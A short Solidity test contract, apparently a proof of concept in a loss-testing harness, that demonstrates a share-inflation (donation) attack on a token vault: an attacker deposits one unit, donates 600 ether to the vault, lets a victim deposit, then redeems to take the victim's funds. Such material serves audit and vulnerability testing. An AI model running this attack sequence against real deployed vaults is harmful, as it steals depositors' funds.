// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.17;

import {LossTest} from "primacy/LossTest.sol";
import {Setup, vm} from "./Setup.sol";

contract Proof is LossTest, Setup {
    function setUp() public {
        deploy(0);
        vm.prank(user);
        token.approve(address(vault), 500 ether);
    }

    function fundsToken() internal view override returns (address) {
        return address(token);
    }

    function fundsHolders() internal view override returns (address[] memory holders) {
        holders = new address[](1);
        holders[0] = user;
    }

    function held(address, address who) internal view override returns (uint256) {
        uint256 all = vault.totalShares();
        return token.balanceOf(who) + (all == 0 ? 0 : vault.shares(who) * vault.totalAssets() / all);
    }

    function attack() internal override {
        depositAs(thief, 1);
        vm.prank(thief);
        token.transfer(address(vault), 600 ether);
        vm.prank(user);
        vault.deposit(500 ether);
        vm.prank(thief);
        vault.redeem(1);
    }
}
